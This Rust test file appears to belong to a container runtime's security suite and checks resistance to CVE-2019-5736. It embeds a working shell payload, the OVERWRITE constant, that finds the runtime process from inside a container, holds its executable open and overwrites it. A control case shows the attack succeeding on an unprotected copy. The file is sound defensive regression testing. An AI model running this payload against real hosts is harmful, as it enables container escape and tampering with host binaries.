//! P01: the runtime's own file, executed in a container, and what is written to it.

use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

/// The program under test with a copy of its own, which an attack may hurt, and a
/// bundle in which that program could run.
struct Scene {
    world: World,
    program: PathBuf,
    rootfs: PathBuf,
    _folder: tempfile::TempDir,
}

fn scene() -> Option<Scene> {
    if !needs(&[Need::Root, Need::Tool("busybox")]) {
        return None;
    }
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("skiff-runtime");
    fs::copy(env!("CARGO_BIN_EXE_skiff-runtime"), &program).unwrap();
    let world = World::root(&program);
    let bundle = bundle(&world, "prey", |spec| {
        spec["process"]["args"] = json!(["sleep", "600"]);
        spec["root"]["readonly"] = json!(false);
        spec["linux"]["cgroupsPath"] = json!(format!("/{}/prey", world.cgroup_parent()));
        // With it every process's file may be opened: only the mount protects it then.
        for set in ["bounding", "effective", "permitted"] {
            let set = &mut spec["process"]["capabilities"][set];
            set.as_array_mut().unwrap().push(json!("CAP_SYS_PTRACE"));
        }
    });
    let rootfs = Path::new(&bundle).join("rootfs");
    // The image brings the libraries that the runtime is linked with: its own, it may be.
    let libraries = run(&["ldd", program.to_str().unwrap()]);
    for library in libraries.split_whitespace().filter(|w| w.starts_with('/')) {
        let target = rootfs.join(&library[1..]);
        fs::create_dir_all(target.parent().unwrap()).unwrap();
        fs::copy(library, target).unwrap();
    }
    create(&world, &bundle, "prey");
    let _ = world.skiff(&["start", "prey"]).ok();
    Some(Scene {
        world,
        program,
        rootfs,
        _folder: folder,
    })
}

/// The attack of CVE-2019-5736: hold the file that some process executes, and write to it
/// as soon as nobody does.
const OVERWRITE: &str = r#"
cd /proc
while [ -z "$prey" ]; do
    for p in [0-9]*; do
        case "$(busybox tr '\0' ' ' < $p/cmdline)" in /proc/self/*--res"ources -"*) prey=$p ;; esac
    done
done
exec 3< $prey/exe
echo held > /tmp/held
while [ -d $prey ]; do :; done
tries=0
while [ $tries -lt 100 ]; do
    if (echo pwned > /proc/self/fd/3) 2> /tmp/error; then echo written > /tmp/result; exit; fi
    tries=$((tries + 1)); busybox usleep 10000
done
busybox mv /tmp/error /tmp/result
"#;

impl Scene {
    /// Has the attack wait for a process `prey`, which ends when its input does; answers
    /// with what came of it.
    fn attack(&self, prey: Command) -> String {
        let line = r#"exec "$0" exec --detach prey sh -c "$1" >/dev/null 2>&1"#;
        let program = self.program.to_str().unwrap();
        let _ = self.world.run(&["sh", "-c", line, program, OVERWRITE]).ok();
        let mut job = Job::start(prey, None);
        let file = |name: &str| self.rootfs.join("tmp").join(name);
        eventually("it is held", TEN, || file("held").exists().then_some(()));
        job.hush();
        let _ = job.wait();
        let result = eventually("the attack ends", TEN, || {
            let text = fs::read_to_string(file("result")).ok()?;
            text.ends_with('\n').then_some(text)
        });
        fs::remove_file(file("held")).unwrap();
        fs::remove_file(file("result")).unwrap();
        result
    }
}

/// P01: the container's processes run the runtime's own program, and then overwrite it.
#[test]
fn the_runtimes_own_file_cannot_be_written() {
    let Some(scene) = scene() else { return };
    let before = fs::read(&scene.program).unwrap();
    let wait = ["update", "--resources", "-", "nobody"];
    let words = [&["exec", "prey", "/proc/self/exe"][..], &wait].concat();
    let out = scene.world.skiff(&words);
    assert!(
        out.stderr.contains("parse the limits"),
        "it runs in there: {out}"
    );
    let result = scene.attack(scene.world.skiff_command(&words));
    assert!(result.contains("Read-only file system"), "{result}");
    // By way of a script, too.
    let script = scene.rootfs.join("script");
    fs::write(&script, "#!/proc/self/exe update --resources -\n").unwrap();
    run(&["chmod", "755", script.to_str().unwrap()]);
    let out = scene.world.skiff(&["exec", "prey", "/script"]);
    assert_eq!(
        out.code, 2,
        "the program has run, and wants other flags: {out}"
    );
    assert!(fs::read(&scene.program).unwrap() == before);

    // The control: the same file in the same container, started as it lies on the host.
    let pid = state(&scene.world, "prey")["pid"].to_string();
    let line = r#"exec 9< "$0"; exec nsenter -t "$1" -m -p /proc/self/fd/9 update --resources - nobody"#;
    let program = scene.program.to_str().unwrap();
    let naive = scene.world.command(&["sh", "-c", line, program, &pid]);
    assert_eq!(scene.attack(naive), "written\n");
    assert_eq!(fs::read_to_string(&scene.program).unwrap(), "pwned\n");
}

/// An ordinary user makes no mount: what runs is a copy in memory, which is sealed.
#[test]
fn an_ordinary_users_runtime_is_a_sealed_copy() {
    if !needs(&[Need::Root, Need::UserNamespace, Need::Tool("busybox")]) {
        return;
    }
    let world = World::ordinary(env!("CARGO_BIN_EXE_skiff-runtime"));
    let bundle = world.folder("bundle");
    fs::create_dir_all(bundle.join("rootfs/bin")).unwrap();
    for folder in ["dev", "proc", "sys"] {
        fs::create_dir(bundle.join("rootfs").join(folder)).unwrap();
    }
    let busybox = world.run(&["sh", "-c", "command -v busybox"]).ok();
    fs::copy(busybox.trim(), bundle.join("rootfs/bin/sh")).unwrap();
    let path = bundle.to_str().unwrap();
    let _ = world.skiff(&["spec", "--rootless", "--bundle", path]).ok();
    let file = bundle.join("config.json");
    let mut spec: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    spec["process"]["terminal"] = json!(false);
    fs::write(&file, spec.to_string()).unwrap();
    create(&world, path, "own");
    let pid = state(&world, "own")["pid"].to_string();
    let exe = world.outside(format!("/proc/{pid}/exe"));
    assert_eq!(
        fs::read_link(&exe).unwrap(),
        Path::new("/memfd:skiff (deleted)")
    );
    let write = fs::OpenOptions::new().write(true).open(&exe);
    let refused = write.and_then(|mut file| std::io::Write::write_all(&mut file, b"x"));
    assert!(refused.is_err());
    let _ = world.skiff(&["delete", "--force", "own"]).ok();
}

fn run(words: &[&str]) -> String {
    let out = Command::new(words[0]).args(&words[1..]).output().unwrap();
    String::from_utf8(out.stdout).unwrap()
}
